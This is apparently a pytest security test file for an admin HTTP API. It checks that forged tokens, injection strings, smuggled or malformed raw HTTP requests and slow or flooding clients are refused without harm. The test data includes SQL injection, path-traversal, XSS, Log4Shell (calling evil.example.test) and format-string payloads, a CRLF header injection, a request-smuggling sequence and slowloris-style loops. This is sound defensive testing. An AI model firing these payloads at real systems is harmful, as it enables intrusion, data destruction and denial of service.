"""What strangers send: forged tokens, floods, injections, endless heads, and clients that hold the line."""

from __future__ import annotations

import socket
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from typing import Any
from unittest import mock

import httpx
import pytest

from dev.servers.identity import Provider, claims, jwk, jwks, provider, rsa_key, token
from plura.kit.auth.settings import AuthSettings
from plura.kit.http import server
from plura.kit.http.settings import ApiSettings
from tests.admin_api import AdminApi, auth_settings, ledger, payment, running
from tests.postgres import TestDatabase
from tests.unit.kit.verification import BAD, unsigned


@pytest.fixture(scope="module")
def shared(postgres: Any, identity: Provider) -> Iterator[AdminApi]:
    """One API for attacks that must not change anything."""
    from tests.postgres import temporary_database

    with temporary_database(postgres, template="migrated") as database:
        payment(database)
        with running(database, auth_settings(identity)) as api:
            yield api


def unharmed(api: AdminApi) -> None:
    assert api.get("/admin/tx/po-1-pay").status_code == 200
    assert api.database.sql("select count(*) from bo.ledger_entries") == [(2,)]


# Tokens


@pytest.mark.parametrize("name", [name for name in BAD if name not in ("surrogate", "too long", "not ASCII")])
def test_forged_tokens_open_nothing(shared: AdminApi, name: str) -> None:
    answered = shared.get("/admin/tx/po-1-pay", bearer=BAD[name]())
    assert answered.status_code == 401
    assert answered.json()["detail"] == "Invalid token"
    assert answered.headers["www-authenticate"] == 'Bearer realm="plura", error="invalid_token"'
    assert "po-1" not in answered.text


@pytest.mark.parametrize("raw", [b"Bearer \xe4\xf6", b"Bearer " + b"x" * 20_000, b"Bearer a\tb", b"\xff"])
def test_odd_bytes_in_the_header_are_no_token(shared: AdminApi, raw: bytes) -> None:
    answered = shared.client.get("/admin/tx/po-1-pay", headers=[(b"Authorization", raw)])
    assert answered.status_code == 401


def test_two_tokens_are_none(shared: AdminApi) -> None:
    headers = [("Authorization", f"Bearer {token()}"), ("Authorization", f"Bearer {token()}")]
    assert shared.client.get("/admin/tx/po-1-pay", headers=headers).status_code == 401


def test_a_token_in_the_query_or_in_a_cookie_is_none(shared: AdminApi) -> None:
    assert shared.get(f"/admin/tx/po-1-pay?access_token={token()}", bearer=None).status_code == 401
    headers = {"Cookie": f"Authorization=Bearer {token()}; access_token={token()}"}
    assert shared.get("/admin/tx/po-1-pay", bearer=None, headers=headers).status_code == 401


def test_actor_headers_identify_no_actor(shared: AdminApi) -> None:
    headers = {"X-Actor-Id": "root", "X-Actor-Roles": "ADMIN_READ,ADMIN_AUDIT"}
    assert shared.get("/admin/tx/po-1-pay", bearer=None, headers=headers).status_code == 401
    assert shared.get("/admin/audit", headers=headers).status_code == 403


def test_a_request_without_a_token_is_challenged(shared: AdminApi) -> None:
    answered = shared.get("/admin/tx/po-1-pay", bearer=None)
    assert answered.status_code == 401
    assert answered.json()["detail"] == "Authorization header missing"
    assert answered.headers["www-authenticate"] == 'Bearer realm="plura"'
    basic = shared.get("/admin/tx/po-1-pay", bearer=None, headers={"Authorization": "Basic cm9vdA=="})
    assert basic.json()["detail"] == "Authorization header must be Bearer token"


def test_a_flood_of_invented_keys_does_not_reach_the_provider(bo: TestDatabase) -> None:
    with provider() as identity_provider, running(bo, auth_settings(identity_provider)) as api:
        assert identity_provider.requests == 1
        invented = [token(kid=f"k-{number}", key=rsa_key("other")) for number in range(300)]
        with ThreadPoolExecutor(8) as pool:
            statuses = list(pool.map(lambda bearer: api.get("/admin/tx/t", bearer=bearer).status_code, invented))
        assert set(statuses) == {401}
        assert identity_provider.requests <= 2


def test_a_rotated_key_is_used(bo: TestDatabase) -> None:
    with (
        provider() as identity_provider,
        mock.patch("plura.kit.auth.keys.RETRY_SECONDS", 0.0),
        running(bo, auth_settings(identity_provider)) as api,
    ):
        rotated = token(kid="k2", key=rsa_key("k2"))
        assert api.get("/admin/tx/t", bearer=rotated).status_code == 401
        identity_provider.document = jwks(jwk(rsa_key("k2"), "k2"))
        assert api.get("/admin/tx/t", bearer=rotated).status_code == 404
        assert api.get("/admin/tx/t", bearer=token()).status_code == 401


def test_without_the_provider_no_token_can_be_verified(bo: TestDatabase) -> None:
    with provider() as identity_provider:
        identity_provider.status = 500
        with running(bo, auth_settings(identity_provider)) as api:
            answered = api.get("/admin/tx/t")
            assert answered.status_code == 503
            assert answered.json()["detail"] == "The keys of the identity provider are not available"
            ready = api.get("/readyz")
            assert (ready.status_code, ready.json()["identity"], ready.json()["database"]) == (503, False, True)
            assert api.get("/healthz").status_code == 200
            assert api.get("/admin/tx/t", bearer=None).status_code == 401


@pytest.mark.parametrize("document", [{"keys": []}, jwks(jwk(rsa_key("k1"), "k1", use="enc"))])
def test_a_key_set_without_a_usable_key_makes_the_process_unready(bo: TestDatabase, document: dict[str, Any]) -> None:
    with (
        provider(document) as identity_provider,
        mock.patch("plura.kit.auth.keys.RETRY_SECONDS", 0.0),
        running(bo, auth_settings(identity_provider)) as api,
    ):
        ready = api.get("/readyz")
        assert (ready.status_code, ready.json()["identity"], ready.json()["database"]) == (503, False, True)
        assert api.get("/admin/tx/t").status_code == 503
        identity_provider.document = jwks(jwk(rsa_key("k1"), "k1"))
        assert api.get("/admin/tx/t").status_code == 404
        time.sleep(1.1)  # a readiness is reused for a second
        assert api.get("/readyz").status_code == 200


def test_a_redirect_of_the_provider_is_not_followed(bo: TestDatabase) -> None:
    with provider() as identity_provider:
        identity_provider.status = 302
        with running(bo, auth_settings(identity_provider)) as api:
            assert api.get("/admin/tx/t").status_code == 503


def test_without_authentication_callers_name_themselves(bo: TestDatabase) -> None:
    ledger(bo, "t-1")
    with running(bo, AuthSettings(auth_mode="disabled")) as api:
        headers = {"X-Actor-Id": "dev", "X-Actor-Roles": "ADMIN_READ, X"}
        assert api.get("/admin/tx/t-1", bearer=None, headers=headers).status_code == 200
        assert api.get("/admin/tx/t-1", bearer=None).status_code == 200
        assert [(row["actor_id"], row["actor_roles"]) for row in api.audit()] == [
            ("dev", "ADMIN_READ,X"),
            (None, None),
        ]


# Injections

INJECTIONS = [
    "' or '1'='1",
    "'; drop table bo.ledger_entries; --",
    "po-1-pay' union select * from bo.admin_audit_logs --",
    "%(id)s",
    "$1",
    "\\x00",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example.test/a}",
    "%s%s%n",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_ids_are_data(shared: AdminApi, text: str) -> None:
    from urllib.parse import quote

    for path in ("/admin/tx/{}", "/admin/payment-orders/{}"):
        answered = shared.get(path.format(quote(text, safe="")))
        assert answered.status_code == 404, path
    assert shared.get(f"/admin/wallets/{quote(text, safe='')}/tx").json()["entries"] == []
    assert shared.get("/admin/search", {"q": text}).json()["results"] == []
    unharmed(shared)


@pytest.mark.parametrize(
    "path",
    [
        "/admin/tx/a%00b",
        "/admin/tx/%0dSet-Cookie:%20a=b",
        "/admin/tx/" + "a" * 256,
        "/admin/payment-orders/%7F",
        "/admin/wallets/%C2%85/tx",
        "/admin/search?q=%00",
        "/admin/search?q=" + "a" * 256,
        "/admin/search",
        "/admin/wallets/w/tx?limit=0",
        "/admin/wallets/w/tx?limit=101",
        "/admin/wallets/w/tx?limit=1e1",
        "/admin/wallets/w/tx?limit=99999999999999999999",
        "/admin/wallets/w/tx?from=nope",
        "/admin/wallets/w/tx?from=2026-02-05T00:00:00",
        "/admin/wallets/w/tx?from=2026-02-05",
        "/admin/wallets/w/tx?to=10000-01-01T00:00:00Z",
        "/admin/wallets/w/tx?to=9999-12-31T23:59:59-00:01",
        "/admin/wallets/w/tx?from=0001-01-01T00:00:00%2B00:01",
        "/admin/wallets/w/tx?from=2026-02-05T00:00:00Z&to=2026-02-04T23:59:59Z",
        "/admin/wallets/w/tx?cursor=%00",
        "/admin/wallets/w/tx?cursor=" + "a" * 3000,
    ],
)
def test_invalid_values_are_reported_one_by_one(shared: AdminApi, path: str) -> None:
    answered = shared.get(path)
    assert answered.status_code == 422
    response = answered.json()
    assert response["detail"] == "Request validation failed"
    assert response["errors"][0]["loc"][0] in ("path", "query")
    assert len(answered.content) < 2000
    unharmed(shared)


def test_the_reference_s_kinds_of_errors_are_kept(shared: AdminApi) -> None:
    def first(query: str) -> dict[str, Any]:
        found: dict[str, Any] = shared.get(f"/admin/wallets/w/tx?{query}").json()["errors"][0]
        return found

    assert first("limit=0")["type"] == "greater_than_equal"
    assert (first("limit=0")["loc"], first("limit=0")["input"], first("limit=0")["ctx"]) == (
        ["query", "limit"],
        "0",
        {"ge": 1},
    )
    assert (first("limit=101")["type"], first("limit=101")["ctx"]) == ("less_than_equal", {"le": 100})
    assert first("from=nope")["type"] == "datetime_from_date_parsing"


@pytest.mark.parametrize("given", ["a" * 129, "a b", "é", "a;b", ""])
def test_a_malformed_correlation_id_is_replaced(shared: AdminApi, given: str) -> None:
    answered = shared.client.get("/healthz", headers=[(b"X-Correlation-ID", given.encode("latin-1"))])
    assert answered.headers["x-correlation-id"] != given
    assert len(answered.headers["x-correlation-id"]) == 36


def test_every_answer_has_a_correlation_id_and_is_not_kept(shared: AdminApi) -> None:
    for path in (
        "/healthz",
        "/readyz",
        "/metrics",
        "/admin/tx/po-1-pay",
        "/admin/tx/none",
        "/nothing",
        "/admin/search",
    ):
        for bearer in (None, "bad", ""):
            answered = shared.get(path, bearer=bearer)
            assert len(answered.headers["x-correlation-id"]) == 36
            assert answered.headers["cache-control"] == "no-store"
            assert answered.headers["x-content-type-options"] == "nosniff"
            assert "server" not in answered.headers


def test_an_unforeseen_error_is_a_problem_without_its_text(api: AdminApi) -> None:
    with mock.patch("plura.tx.api.tx.service.response", side_effect=RuntimeError("secret")):
        ledger(api.database, "t-1")
        answered = api.get("/admin/tx/t-1")
    assert answered.status_code == 500
    assert answered.headers["content-type"] == "application/problem+json"
    assert answered.json()["correlation_id"] == answered.headers["x-correlation-id"]
    assert "secret" not in answered.text


# The line


@contextmanager
def line(api: AdminApi) -> Iterator[socket.socket]:
    host, port = api.url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=15) as connection:
        yield connection


def everything(connection: socket.socket) -> bytes:
    found = b""
    while chunk := connection.recv(65_536):
        found += chunk
    return found


@pytest.mark.parametrize(
    "raw",
    [
        b"nonsense\r\n\r\n",
        b"GET / HTTP/9.9\r\n\r\n",
        b"GET /admin/tx/\xff HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /",
        b"GET / HTTP/1.1\r\nHo st: x\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00",
    ],
)
def test_what_is_no_http_is_refused(shared: AdminApi, raw: bytes) -> None:
    with line(shared) as connection:
        connection.sendall(raw)
        response = everything(connection)
    assert response.startswith(b"HTTP/1.1 400 Bad Request\r\n")
    assert b"x-correlation-id: " in response
    assert response.count(b"HTTP/1.1 ") == 1
    unharmed(shared)


def test_a_head_without_end_is_refused(shared: AdminApi) -> None:
    with line(shared) as connection:
        connection.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
        with pytest.raises(OSError, match=r"reset|pipe"):  # noqa: PT012  # the server closes while we write
            for _ in range(200):
                connection.sendall(b"X-More: " + b"a" * 8000 + b"\r\n")
                time.sleep(0.001)
    unharmed(shared)


def test_a_body_without_end_is_not_kept(shared: AdminApi) -> None:
    with line(shared) as connection:
        connection.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nContent-Length: 100000000000\r\n\r\n")
        response = connection.recv(65_536)
        assert response.startswith(b"HTTP/1.1 200 OK\r\n")
    unharmed(shared)


@pytest.mark.parametrize(
    ("sent", "response"),
    [
        (b"", b"HTTP/1.1 408 "),
        (b"GET /healthz HT", b"HTTP/1.1 408 "),
        (b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: a", b"HTTP/1.1 408 "),
        (b"GET /healthz HTTP/1.1\r\nHost: x\r\nContent-Length: 9\r\n\r\n123", b"HTTP/1.1 200 "),
    ],
)
def test_clients_that_hold_the_line_are_let_go(
    bo: TestDatabase, identity: Provider, sent: bytes, response: bytes
) -> None:
    with (
        mock.patch.object(server, "REQUEST_SECONDS", 0.5),
        running(bo, auth_settings(identity)) as api,
        line(api) as connection,
    ):
        started = time.monotonic()
        connection.sendall(sent)
        assert everything(connection).startswith(response)
        assert time.monotonic() - started < 5


def test_a_second_request_has_no_more_time_than_the_first(bo: TestDatabase, identity: Provider) -> None:
    with (
        mock.patch.object(server, "REQUEST_SECONDS", 0.5),
        running(bo, auth_settings(identity)) as api,
        line(api) as connection,
    ):
        connection.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
        assert connection.recv(65_536).startswith(b"HTTP/1.1 200 ")
        started = time.monotonic()
        connection.sendall(b"GET /healthz HT")
        assert everything(connection).startswith(b"HTTP/1.1 408 ")
        assert time.monotonic() - started < 5


def test_a_slow_client_that_drips_gets_no_more_time(bo: TestDatabase, identity: Provider) -> None:
    with mock.patch.object(server, "REQUEST_SECONDS", 0.5), running(bo, auth_settings(identity)) as api:
        with line(api) as connection:
            connection.sendall(b"GET /healthz HTTP/1.1\r\n")
            started = time.monotonic()
            with pytest.raises(OSError, match=r"reset|pipe"):  # noqa: PT012  # the server closes while we write
                while time.monotonic() - started < 5:
                    connection.sendall(b"a")
                    time.sleep(0.05)
        assert time.monotonic() - started < 4


def test_two_hundred_slow_clients_do_not_delay_others(shared: AdminApi) -> None:
    lines = []
    try:
        for _ in range(200):
            host, port = shared.url.removeprefix("http://").split(":")
            log_line = socket.create_connection((host, int(port)), timeout=15)
            log_line.sendall(b"GET /admin/tx/po-1-pay HTTP/1.1\r\nHost: x\r\n")
            lines.append(log_line)
        started = time.monotonic()
        for _ in range(10):
            unharmed(shared)
        assert time.monotonic() - started < 5
    finally:
        for log_line in lines:
            log_line.close()


def test_a_client_that_takes_nothing_is_let_go(bo: TestDatabase, identity: Provider) -> None:
    for number in range(100):
        ledger(bo, f"t-{number}")
    head = (
        f"GET /admin/wallets/w-1/tx?limit=100 HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token()}\r\n\r\n".encode()
    )
    with mock.patch.object(server, "ANSWER_SECONDS", 0.5), running(bo, auth_settings(identity)) as api:
        host, port = api.url.removeprefix("http://").split(":")
        with socket.socket() as slow_reader:
            slow_reader.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
            slow_reader.settimeout(10)
            slow_reader.connect((host, int(port)))
            deadline = time.monotonic() + 15
            with pytest.raises(OSError, match=r"reset|pipe"):  # noqa: PT012  # the server closes while we write
                while time.monotonic() < deadline:
                    slow_reader.sendall(head)
                    time.sleep(0.001)
        assert api.get("/healthz").status_code == 200


def test_pipelined_requests_are_answered_in_order(shared: AdminApi) -> None:
    with line(shared) as connection:
        connection.sendall(
            b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\nGET /nothing HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
        )
        response = everything(connection)
    assert response.index(b"HTTP/1.1 200 OK") < response.index(b"HTTP/1.1 404 Not Found")


# Rooms that are closed in production


def test_in_production_the_documentation_is_off(bo: TestDatabase, identity: Provider) -> None:
    for app_env, expected in (("prod", 404), ("local", 200)):
        settings = ApiSettings(app_env=app_env)  # type: ignore[arg-type]
        with running(bo, auth_settings(identity, app_env=app_env), settings=settings) as api:
            for path in ("/docs", "/redoc", "/openapi.json"):
                assert httpx.get(api.url + path).status_code == expected, path


def test_the_tests_forge_as_attackers_do() -> None:
    assert unsigned({"alg": "none"}, claims()).endswith(".")
